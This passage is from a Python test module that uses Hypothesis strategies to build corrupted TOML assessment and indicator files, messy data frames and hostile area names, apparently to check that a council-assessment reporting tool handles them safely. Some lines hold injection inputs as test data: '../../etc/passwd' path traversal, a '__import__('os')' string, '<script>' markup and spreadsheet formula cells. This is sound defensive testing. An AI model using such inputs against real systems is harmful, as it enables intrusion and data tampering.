        junk = draw(st.sampled_from([b"\xff", b"\xc3\x28", b"\x80", "é".encode("cp1252"),
                                     b"\xed\xa0\x80", b"\xf4\x90\x80\x80"]))  # fmt: skip
        damaged, done = data[:at] + junk + data[at:], f"{junk!r} at byte {at}"
    elif kind == "truncate":
        damaged, done = data[:at], f"cut at byte {at}"
    elif kind == "bom":
        damaged, done = b"\xef\xbb\xbf" + data, "byte-order mark"
    elif kind == "crlf":
        damaged, done = data.replace(b"\n", b"\r\n"), "CRLF line endings"
    elif kind == "nul":
        damaged, done = data[:at] + b"\x00" + data[at:], f"NUL at byte {at}"
    elif kind == "bad_date":
        wrong = draw(st.sampled_from([b"2025-02-30", b"2025-13-01", b"0000-00-00", b"2025-9-4"]))
        damaged = re.sub(rb"\d{4}-\d{2}-\d{2}", wrong, data, count=1)
        done = f"date {wrong!r}"
    else:
        damaged = data + b"# " + b"x" * (11 * 1024 * 1024) + b"\n"
        done = "larger than 10 MB"
    return damaged, done


@dataclasses.dataclass
class MutatedToml(ShortRepr):
    """TOML files after mutation (name -> bytes), what was done, and every text put into a
    string that a report or page must show inert."""

    files: dict[str, bytes]
    mutations: list[str]
    payloads: list[str]

    def __repr__(self) -> str:
        return f"MutatedToml(files={sorted(self.files)}, mutations={self.mutations!r:.2000})"


@functools.cache
def _example_toml(kind: str) -> dict[str, dict[str, object]]:
    import tomllib

    from outcomes.core._resources import bundled_path

    folder = bundled_path("example") / "assessments" if kind == "assessments" else (
        bundled_path("indicators"))  # fmt: skip
    return {path.name: tomllib.loads(path.read_text(encoding="utf-8"))
            for path in sorted(folder.glob("*.toml"))}  # fmt: skip


def _mutate(draw: st.DrawFn, document: dict[str, object], kind: str) -> tuple[str, str | None]:
    """One mutation of ``document`` in place: what was done, and the text put in if any."""
    paths = toml_paths(document)
    strings = [p for p in paths if isinstance(toml_get(document, p), str)]
    prose = [p for p in strings if _FREE_TEXT.intersection(map(str, p))]
    if kind == "prose" and prose:
        strings = prose
        kind = "payload"
    if not paths:
        return "nothing to change in an empty document", None
    if kind == "payload" and strings:
        path = draw(st.sampled_from(strings))
        payload = draw(st.one_of(st.sampled_from(XSS_PAYLOADS + FORMULA_PAYLOADS),
                                 hostile_texts))  # fmt: skip
        toml_set(document, path, payload)
        return f"payload at {path}: {payload!r}", payload
    path = draw(st.sampled_from(paths))
    if kind == "drop":
        toml_delete(document, path)
        return f"dropped {path}", None
    if kind == "unknown_key":
        tables = [p for p in [(), *paths] if isinstance(toml_get(document, p), dict)]
        where = draw(st.sampled_from(tables))
        key = draw(st.one_of(hostile_texts, st.sampled_from(["narative", "grades", "stauts"])))
        table = toml_get(document, where)
        assert isinstance(table, dict)
        table[key] = draw(hostile_toml_values)
        return f"unknown key {key!r} in {where}", None
    if kind == "duplicate":
        arrays = [p for p in paths if isinstance(toml_get(document, p), list)
                  and toml_get(document, p)]  # fmt: skip
        if arrays:
            target = toml_get(document, draw(st.sampled_from(arrays)))
            assert isinstance(target, list)
            target.append(target[draw(st.integers(0, len(target) - 1))])
            return f"duplicated an element of {path}", None
    value = draw(hostile_toml_values)
    toml_set(document, path, value)
    shown = repr(value) if len(repr(value)) < 80 else repr(value)[:77] + "..."
    return f"set {path} = {shown}", value if isinstance(value, str) else None


_ASSESSMENT_MUTATIONS = ("payload", "prose", "prose", "drop", "retype", "unknown_key",
                         "duplicate", "grade", "date", "status")  # fmt: skip
#: Keys whose text is prose for people (shown in reports), not a code or a date.
_FREE_TEXT = frozenset({
    "introduction", "governance", "public_protection", "resources", "workforce", "answer",
    "text", "reason", "action", "owner", "comment", "evidence", "peer_name", "strengths",
    "improvements", "documents", "people_met", "data_examined", "title", "description",
    "source", "unit",
})  # fmt: skip


#: The example assessments written by hand, each richer than the generated ones
#: (examples/make_example_assessments.py): a published report with every part, and a draft
#: with an unsigned peer assessment. Mutations start from these.
HAND_WRITTEN_ASSESSMENTS = ("dundee-city.toml", "fife.toml")


@st.composite
def mutated_assessments(draw: st.DrawFn) -> MutatedToml:
    """One of the hand-written example assessments with keys dropped, retyped or added, payloads
    in its text, grades and dates out of range, and sometimes its bytes damaged."""
    import copy

    name = draw(st.sampled_from(HAND_WRITTEN_ASSESSMENTS))
    document = copy.deepcopy(_example_toml("assessments")[name])
    mutations: list[str] = []
    payloads: list[str] = []
    kinds = st.sampled_from(["prose"] if draw(st.booleans()) else _ASSESSMENT_MUTATIONS)
    for kind in draw(st.lists(kinds, min_size=1, max_size=4)):
        paths = toml_paths(document)
        grades = [p for p in paths if p and p[-1] == "grade"]
        dates = [p for p in paths if isinstance(toml_get(document, p), dt.date)]
        if kind == "grade" and grades:
            path = draw(st.sampled_from(grades))
            value = draw(st.sampled_from([0, 7, -1, 3.5, "4", True, 2**63, 2**70, 99]))
            toml_set(document, path, value)
            mutations.append(f"grade at {path} = {value!r}")
        elif kind == "date" and dates:
            path = draw(st.sampled_from(dates))
            value = draw(st.sampled_from([dt.date(1, 1, 1), dt.date(9999, 12, 31),
                                          dt.date(1990, 1, 1), "2025-09-24", 20250924,
                                          dt.datetime(2025, 9, 24, 10, 0, tzinfo=dt.UTC),
                                          dt.time(9, 30)]))  # fmt: skip
            toml_set(document, path, value)
            mutations.append(f"date at {path} = {value!r}")
        elif kind == "status":
            document["status"] = draw(st.sampled_from(["draft", "peer_assessed", "published",
                                                       "final", "Published", ""]))  # fmt: skip
            mutations.append(f"status = {document['status']!r}")
        else:
            done, payload = _mutate(draw, document, kind)
            mutations.append(done)
            payloads += [payload] if payload is not None else []
    data = toml_text(document).encode("utf-8")
    if draw(st.integers(0, 5)) == 0:
        data, done = _raw_damage(draw, data)
        mutations.append(done)
    return MutatedToml(files={name: data}, mutations=mutations, payloads=payloads)


_CATALOGUE_MUTATIONS = ("payload", "payload", "drop", "retype", "unknown_key", "duplicate",
                        "multiplier", "recommendations", "limits", "move_item", "remove_file",
                        "extra_files", "unknown_table", "rename_item")  # fmt: skip
_FILE_MUTATIONS = ("remove_file", "extra_files", "unknown_table", "move_item", "rename_item")
_CATALOGUE_TRAPS: dict[str, list[object]] = {
    "multiplier": ["1e999", "0", "-1", "1000/0", "1e12", "1e13", "1e-10", "(1000)", "1000/52",
                   1e300, math.inf, math.nan, "1_000", "\u0661\u0660\u0660\u0660", True, "1000*",
                   "10**3", "__import__('os')", 0.5, 2**70],
    "recommendations": [[0], [14], [], [1, 1], ["1"], [1.5], [2**70], 11, [-1], [[1]]],
    "materiality": [math.nan, -0.1, 1, 0.999, "0.1", math.inf, 1e-300],
    "disclosure_threshold": [-1, 1.5, 2**70, True, "5", 0, 10**9],
    "aliases": [{"lgbf": 5}, "SW1", {"=x": "<script>"}, {"": ""}, [], {"a": {"b": "c"}}],
    "period_type": ["financial_year ", "Financial_Year", "fy", ""],
}  # fmt: skip


def _mutate_files(draw: st.DrawFn, files: dict[str, dict[str, object]], kind: str) -> str:
    """Remove, add, move or rename across the catalogue's files, in place: what was done."""
    name = draw(st.sampled_from(sorted(files)))
    document = files[name]
    items = document.get("item")
    done = f"nothing to {kind} in {name}"
    if kind == "remove_file":
        del files[name]
        done = f"removed {name}"
    elif kind == "extra_files":
        extra = draw(st.sampled_from(["empty.toml", "notes.txt", "sub/copy.toml"]))
        files[extra] = {} if extra == "empty.toml" else dict(document)
        done = f"added {extra}"
    elif kind == "unknown_table":
        table = draw(st.sampled_from(["indicators", "Indicator", "meta", "indicator"]))
        document[table] = {"id": "X"} if table == "indicator" else [{"id": "X"}]
        done = f"table [{table}] in {name}"
    elif kind == "move_item" and isinstance(items, list) and items:
        moved = items.pop(draw(st.integers(0, len(items) - 1)))
        other = files[draw(st.sampled_from(sorted(files)))].setdefault("item", [])
        if isinstance(other, list):
            other.append(moved)
        done = f"moved an item out of {name}"
    elif kind == "rename_item" and isinstance(items, list) and items:
        entry = draw(st.sampled_from(items))
        if isinstance(entry, dict):
            entry["name"] = str(entry.get("name", "")) + "_renamed"
        done = f"renamed an item of {name}"
    return done


def _mutate_entry(draw: st.DrawFn, files: dict[str, dict[str, object]], kind: str) -> str:
    """Change one ``[[indicator]]`` or ``[[item]]`` entry in place: what was done."""
    name = draw(st.sampled_from(sorted(files)))
    document = files[name]
    tables = [document.get("indicator"), document.get("item")]
    entries = [e for t in tables if isinstance(t, list) for e in t if isinstance(e, dict)]
    if not entries:
        return f"nothing to change in {name}"
    entry = draw(st.sampled_from(entries))
    if not entry:
        return f"an empty entry of {name} left as it is"
    key = draw(st.sampled_from(sorted(entry)))
    trap = kind if kind in ("multiplier", "recommendations") else None
    if kind == "limits":
        trap = draw(st.sampled_from(["materiality", "disclosure_threshold", "aliases",
                                     "period_type"]))  # fmt: skip
    if trap is not None and "id" in entry:
        entry[trap] = draw(st.sampled_from(_CATALOGUE_TRAPS[trap]))
        done = f"{name}: {entry.get('id')!r}.{trap} = {entry[trap]!r}"
    elif kind == "drop":
        del entry[key]
        done = f"{name}: dropped {key!r}"
    elif kind == "duplicate":
        target = tables[0] if "id" in entry else tables[1]
        if isinstance(target, list):
            target.append(dict(entry))
        done = f"{name}: duplicated {entry.get('id', entry.get('name'))!r}"
    elif kind == "unknown_key":
        entry[draw(st.one_of(hostile_texts, st.sampled_from(["titel", "polarity_"])))] = 1
        done = f"{name}: unknown key"
    else:
        entry[key] = draw(hostile_toml_values)
        done = f"{name}: {key!r} retyped"
    return done


@st.composite
def mutated_catalogues(draw: st.DrawFn) -> MutatedToml:
    """The bundled indicator files with keys dropped, retyped or added, payloads in text,
    impossible multipliers, recommendations and limits, entries duplicated or moved, files
    removed or added, and sometimes bytes damaged."""
    import copy

    files = copy.deepcopy(_example_toml("indicators"))
    mutations: list[str] = []
    payloads: list[str] = []
    kinds = st.sampled_from(["prose"] if draw(st.booleans()) else _CATALOGUE_MUTATIONS)
    for kind in draw(st.lists(kinds, min_size=1, max_size=4)):
        if not files:
            break
        if kind in ("payload", "prose", "retype"):
            name = draw(st.sampled_from(sorted(files)))
            done, payload = _mutate(draw, files[name], kind)
            mutations.append(f"{name}: {done}")
            payloads += [payload] if payload is not None else []
        else:
            mutate = _mutate_files if kind in _FILE_MUTATIONS else _mutate_entry
            mutations.append(mutate(draw, files, kind))
    written = {name: toml_text(document, arrays=("indicator", "item")).encode("utf-8")
               for name, document in files.items()}  # fmt: skip
    if written and draw(st.integers(0, 5)) == 0:
        name = draw(st.sampled_from(sorted(written)))
        written[name], done = _raw_damage(draw, written[name])
        mutations.append(f"{name}: {done}")
    return MutatedToml(files=written, mutations=mutations, payloads=payloads)


# --- Hostile names: areas whose every text a spreadsheet or browser would run -------------------


@dataclasses.dataclass
class PayloadAreas:
    """An areas table of real areas, some renamed, named and grouped with payloads; the
    renames (example area -> area as written); and a value with more significant digits
    than a spreadsheet shows, put in the data of the first renamed area."""

    areas: list[tuple[str, str, str]]
    renamed: dict[str, str]
    long_value: float


_AREA_PAYLOADS = (
    *(tidy_text(p) for p in FORMULA_PAYLOADS + XSS_PAYLOADS),
    "../../etc/passwd", "..", "CON", "a/b\\c", "Ünïcödé Cöüncil", "日本 Council", "x" * 200,
)  # fmt: skip


@st.composite
def payload_areas(draw: st.DrawFn) -> PayloadAreas:
    """Five to eight example areas, one to three of them renamed to formula, markup or path
    payloads, with payload names and family groups."""
    table = list(example_areas())
    chosen = draw(st.lists(st.sampled_from(table), min_size=5, max_size=8, unique=True))
    count = draw(st.integers(min_value=1, max_value=3))
    names = draw(st.lists(st.sampled_from(_AREA_PAYLOADS), min_size=count, max_size=count,
                          unique=True))  # fmt: skip
    renamed = {area: name for (area, _, _), name in zip(chosen, names, strict=False)}
    group = draw(st.sampled_from(FORMULA_PAYLOADS + XSS_PAYLOADS)).strip()
    areas = [
        (renamed.get(area, area),
         draw(st.one_of(st.just(name), st.sampled_from(FORMULA_PAYLOADS + XSS_PAYLOADS)))
         .strip() or name,
         draw(st.sampled_from([family_group, group])))
        for area, name, family_group in chosen
    ]  # fmt: skip
    long_value = draw(st.sampled_from([123456.789012345, 98765.4321098765, 1234567890123.0,
                                       0.1 + 0.2]))  # fmt: skip
    return PayloadAreas(areas=areas, renamed=renamed, long_value=long_value)


# --- Tidy datasets for the column-wise checks (issue 20) ----------------------------------

#: Cells of a tidy column: good, bad and awkward values, repeated so that rows collide.
tidy_value_cells = st.one_of(
    st.sampled_from(["12", " 7 ", "0", "-3", "1e3", "1,234", "12,5", "(5)", "£10", "'4", "'",
                     "5%", "n/a", "#REF!", "=A1", "2024-01-01", "1e400", "1e-12", "", "  ",
                     ".5", "5.", "+2", "\u00a03"]),
    st.integers(min_value=-5, max_value=10**16).map(str),
    return_cells,
)  # fmt: skip
tidy_label_cells = st.sampled_from(["A", "B", " A ", "a", "", "'=x", "Scotland", "Fife"])
tidy_period_cells = st.sampled_from(["2023-24", "2024-25", " 2024-25", "2024", "nope", ""])
tidy_item_cells = st.sampled_from(["x", "y", "", "x ", "Y"])
tidy_flag_cells = st.sampled_from(["", "provisional", "NOT_COLLECTED", "not_collected", "odd"])


@st.composite
def messy_tidy_frames(draw: st.DrawFn) -> pd.DataFrame:
    """A text frame in the tidy layout with problems of every kind, some rows blank, the
    columns in any case and order, sometimes without ``flag``, sometimes with other types."""
    rows = draw(st.integers(min_value=0, max_value=25))
    columns = {
        "area": st.one_of(tidy_label_cells, return_cells),
        "period": tidy_period_cells,
        "item": tidy_item_cells,
        "value": tidy_value_cells,
        "flag": tidy_flag_cells,
    }
    if draw(st.booleans()):
        del columns["flag"]
    cells = {name: draw(st.lists(strategy, min_size=rows, max_size=rows))
             for name, strategy in columns.items()}  # fmt: skip
    blank = draw(st.lists(st.booleans(), min_size=rows, max_size=rows))
    for name, column in list(cells.items()):
        cells[name] = ["" if gone else cell for cell, gone in zip(column, blank, strict=True)]
    frame = pd.DataFrame(cells, dtype=object)
    if rows and draw(st.booleans()):  # numbers and gaps as a user's own frame may hold them
        frame["value"] = pd.to_numeric(frame["value"], errors="coerce")
    if rows and draw(st.booleans()):
        frame["area"] = frame["area"].astype("category")
    names = list(frame.columns)
    order = draw(st.permutations(names))
    renamed = {name: draw(st.sampled_from([name, name.upper(), f" {name} "])) for name in names}
    return frame[order].rename(columns=renamed)
